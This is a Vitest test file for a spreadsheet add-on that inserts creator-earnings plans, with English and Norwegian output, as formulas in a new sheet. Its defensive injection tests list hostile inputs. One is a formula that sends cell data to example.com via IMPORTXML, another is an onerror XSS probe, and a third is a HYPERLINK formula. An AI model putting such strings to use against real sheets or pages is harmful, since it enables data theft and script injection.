import { describe, expect, it } from 'vitest';
import type { InsertReply, InsertRequest } from '../../src/messages';
import { scenarioResults } from '../../src/scenario/results';
import { emptyScenario, type Scenario } from '../../src/scenario/scenario';
import type { Workbench } from '../../workbench/session';
import { expectClose } from '../close';
import { openAddon, sheetNames } from './open';

const plan: Scenario = {
  name: 'Longer videos',
  views: 1_000_000,
  share: 'range',
  rpm: 'range',
  videoSeconds: 90,
  followers: 20_000,
  viewsIn30Days: 1_000_000,
  age: 25,
  country: 'GB',
};
const own: Scenario = { ...plan, name: 'Own figures', share: 0.43, rpm: 0.67, followers: 8800, country: null };
const norway: Scenario = { ...plan, name: 'Norway', country: 'NO', rpm: 'high' };
const request: InsertRequest = { scenarios: [plan, own, norway], target: 1000, language: 'en' };

function insert(addon: Workbench, message: unknown = request): InsertReply {
  const reply = addon.run('insertScenarios', message);
  if (!reply.ok) throw new Error(reply.message);
  return reply.value as InsertReply;
}

/** Column A of the sheet, with the row of each label. */
function rowsByLabel(addon: Workbench, sheet: string): Map<unknown, number> {
  return new Map(addon.values(sheet, 'A1:A40').map(([label], i) => [label, i + 1]));
}

describe('plans in a new sheet', () => {
  it('stand as inputs and formulas that give the panel’s figures', () => {
    const addon = openAddon();
    expect(insert(addon)).toEqual({ ok: true, sheetName: 'Plans' });
    const rows = rowsByLabel(addon, 'Plans');
    const at = (label: string, column: string) => addon.cell('Plans', `${column}${rows.get(label)}`);
    [plan, own, norway].forEach((scenario, i) => {
      const column = 'BCD'[i] as string;
      const results = scenarioResults(scenario, 1000);
      for (const [word, level] of [
        ['low', 'low'],
        ['mid', 'mid'],
        ['high', 'high'],
      ] as const) {
        expectClose(at(`Creator Fund (closed), ${word}`, column).value, results.fund?.[level] as number);
        expectClose(at(`Qualified views, ${word}`, column).value, results.qualifiedViews?.[level] as number);
        const rewards = at(`Creator Rewards, ${word}`, column).value;
        const needed = at(`Views needed for the target, at ${word} rates`, column).value;
        if (results.rewards === null) {
          expect([rewards, needed]).toEqual(['', '']);
        } else {
          expectClose(rewards, results.rewards[level]);
          expectClose(needed, (results.viewsNeeded as { low: number; mid: number; high: number })[level]);
        }
      }
    });
    expect(at('What is missing for Creator Rewards', 'B').value).toBe('Eligible');
    expect(at('What is missing for Creator Rewards', 'C').value).toBe('1,200 more followers');
    expect(at('What is missing for Creator Rewards', 'D').value).toBe('Not available in Norway (list of 2025-11-26)');
    expect(at('Qualified share, low', 'B').text).toBe('low');
    expect(at('Qualified share, low', 'C').text).toBe('43.0%');
    expect(at('Views a month', 'B').text).toBe('1,000,000');
    expect(at('Country', 'B').value).toBe('United Kingdom');
    const offered = ['B', 'C', 'D'].map((column) => at('Creator Rewards is offered in the country', column).value);
    expect(offered).toEqual([true, 'not checked', false]);
  });

  it('follow a changed input', () => {
    const addon = openAddon();
    insert(addon);
    const rows = rowsByLabel(addon, 'Plans');
    const rewards = () => addon.cell('Plans', `B${rows.get('Creator Rewards, high')}`).value;
    expectClose(rewards(), 600);
    addon.setCell('Plans', `B${rows.get('Views a month')}`, '2000000');
    expectClose(rewards(), 1200);
    addon.setCell('Plans', `B${rows.get('RPM, high')}`, '3');
    expectClose(rewards(), 3600);
    addon.setCell('Plans', `B${rows.get('Country')}`, 'Norge');
    expect(rewards()).toBe('');
    addon.setCell('Plans', `B${rows.get('Country')}`, '');
    addon.setCell('Plans', `B${rows.get('Video length')}`, '60');
    expect(rewards()).toBe(0);
    expect(addon.cell('Plans', `B${rows.get('Views needed for the target, at high rates')}`).value).toBe('');
  });

  it('fall back on the level of its own row where the user empties an assumption', () => {
    const addon = openAddon();
    insert(addon);
    const rows = rowsByLabel(addon, 'Plans');
    for (const label of ['Qualified share, low', 'RPM, low', 'RPM, high'])
      addon.setCell('Plans', `B${rows.get(label)}`, '');
    expectClose(addon.cell('Plans', `B${rows.get('Creator Rewards, low')}`).value, 120);
    expectClose(addon.cell('Plans', `B${rows.get('Creator Rewards, high')}`).value, 600);
    expect(addon.cell('Plans', `B${rows.get('Views needed for the target, at low rates')}`).value).toBe(8_333_334);
  });

  it('look like a table: headings bold and frozen, figures with units', () => {
    const addon = openAddon();
    insert(addon);
    const look = (a1: string) => {
      addon.select('Plans', a1);
      return addon.model.getters.getCurrentStyle();
    };
    expect([look('A1').bold, look('B1').bold, look('A2').bold, look('B3').bold ?? false]).toEqual([
      true,
      true,
      true,
      false,
    ]);
    expect(look('E3').wrapping).toBe('wrap');
    const rows = rowsByLabel(addon, 'Plans');
    expect(addon.cell('Plans', `B${rows.get('Views needed for the target, at low rates')}`).text).toBe('8,333,334');
    expect(addon.cell('Plans', `B${rows.get('Creator Rewards, low')}`).text).toBe('120.00');
    const sheetId = addon.model.getters.getActiveSheetId();
    expect(addon.model.getters.getPaneDivisions(sheetId)).toEqual({ xSplit: 1, ySplit: 1 });
  });

  it('speak Norwegian, with a decimal comma', () => {
    const addon = openAddon([[null]], 'nb');
    expect(insert(addon, { ...request, language: 'nb' })).toEqual({ ok: true, sheetName: 'Planer' });
    const rows = rowsByLabel(addon, 'Planer');
    expectClose(addon.cell('Planer', `B${rows.get('Creator Rewards, middels')}`).value, 280);
    expect(addon.cell('Planer', `C${rows.get('RPM, høy')}`).text).toBe('0,67');
    expect(addon.cell('Planer', `D${rows.get('Det som mangler for Creator Rewards')}`).value).toBe(
      'Ikke tilgjengelig for kontoer fra Norge (landliste per 26.11.2025)',
    );
    expect(addon.cell('Planer', `D${rows.get('RPM, lav')}`).value).toBe('høy');
  });

  it('leave the results of an unfinished plan empty, and no error', () => {
    const addon = openAddon();
    insert(addon, { ...request, scenarios: [emptyScenario('New'), plan], target: null });
    const shown = addon.values('Plans', 'B1:C40').flat();
    expect(shown.filter((value) => typeof value === 'string' && value.startsWith('#'))).toEqual([]);
    const rows = rowsByLabel(addon, 'Plans');
    expect(addon.cell('Plans', `B${rows.get('Creator Rewards, mid')}`).value).toBe('');
    expect(addon.cell('Plans', `B${rows.get('What is missing for Creator Rewards')}`).value).toBe(
      'Fill in followers, views in 30 days and age',
    );
  });

  it('never touch a sheet that stands', () => {
    const addon = openAddon([['mine', 1]]);
    insert(addon);
    addon.setCell('Plans', 'B3', '5');
    expect(insert(addon)).toEqual({ ok: true, sheetName: 'Plans 2' });
    expect(insert(addon)).toEqual({ ok: true, sheetName: 'Plans 3' });
    expect(sheetNames(addon)).toEqual(expect.arrayContaining(['Data', 'Plans', 'Plans 2', 'Plans 3']));
    expect(addon.cell('Plans', 'B3').value).toBe(5);
    expect(addon.values('Data', 'A1:B1')).toEqual([['mine', 1]]);
  });

  it('cost at most 12 service calls, whatever their number', () => {
    for (const scenarios of [
      [plan, own],
      [plan, own, norway, plan],
    ]) {
      const addon = openAddon();
      insert(addon, { ...request, scenarios });
      expect(addon.calls.names.length, addon.calls.names.join(', ')).toBeLessThanOrEqual(12);
    }
  });
});

describe('whatever goes wrong', () => {
  const calls = (() => {
    const addon = openAddon();
    insert(addon);
    return [...addon.calls.names];
  })();

  it.each(
    calls.map((name, i) => [i + 1, name] as const),
  )('call %d (%s) fails: nothing is left behind, and trying again works', (n) => {
    const addon = openAddon([['mine']]);
    addon.calls.failAt(n);
    expect(insert(addon)).toEqual({ ok: false, problem: 'not-written' });
    expect(sheetNames(addon)).toEqual(['Data']);
    expect(addon.values('Data', 'A1')).toEqual([['mine']]);
    expect(insert(addon)).toEqual({ ok: true, sheetName: 'Plans' });
  });

  it.each([
    ['=IMPORTXML("https://example.com/?"&A1;"//a")'],
    ['+1'],
    ['-1'],
    ['@x'],
    ['＝1'],
    ['1.5'],
    ['3 March'],
    ['TRUE'],
    ["'quoted"],
    ['<img src=x onerror=alert(1)>'],
    ['x'.repeat(5000)],
    ['\u202e😀 عربي'],
    ['\t=1'],
    ['\n=1'],
  ])('the name %j is written as text', (name) => {
    const addon = openAddon();
    expect(insert(addon, { ...request, scenarios: [{ ...plan, name }, own] }).ok).toBe(true);
    expect(addon.cell('Plans', 'B1').value).toBe(name);
  });

  it.each([
    [null],
    ['text'],
    [[]],
    [{ ...request, language: 'de' }],
    [{ ...request, scenarios: [] }],
    [{ ...request, scenarios: [plan, plan, plan, plan, plan] }],
    [{ ...request, scenarios: 'many' }],
    [{ ...request, target: -1 }],
    [{ ...request, target: '1000' }],
    [{ ...request, target: undefined }],
    [{ ...request, scenarios: [{ ...plan, views: -1 }] }],
    [{ ...request, scenarios: [{ ...plan, views: '=1' }] }],
    [{ ...request, scenarios: [{ ...plan, views: '' }] }],
    [{ ...request, scenarios: [{ ...plan, share: 43 }] }],
    [{ ...request, scenarios: [{ ...plan, rpm: null }] }],
    [{ ...request, scenarios: [{ ...plan, rpm: 0 }] }],
    [{ ...request, scenarios: [{ ...plan, rpm: 'much' }] }],
    [{ ...request, scenarios: [{ ...plan, country: 'XX' }] }],
    [{ ...request, scenarios: [{ ...plan, country: '=HYPERLINK("x")' }] }],
    [{ ...request, scenarios: [{ ...plan, videoSeconds: 1.5 }] }],
    [{ ...request, scenarios: [{ ...plan, name: 5 }] }],
    [{ ...request, scenarios: [{ ...plan, name: 'x'.repeat(5001) }] }],
    [{ ...request, scenarios: [{ name: 'nothing else' }] }],
  ])('%j is refused before anything is written', (message) => {
    const addon = openAddon();
    expect(insert(addon, message)).toEqual({ ok: false, problem: 'invalid-request' });
    expect(addon.calls.names).toEqual([]);
    expect(sheetNames(addon)).toEqual(['Data']);
  });
});
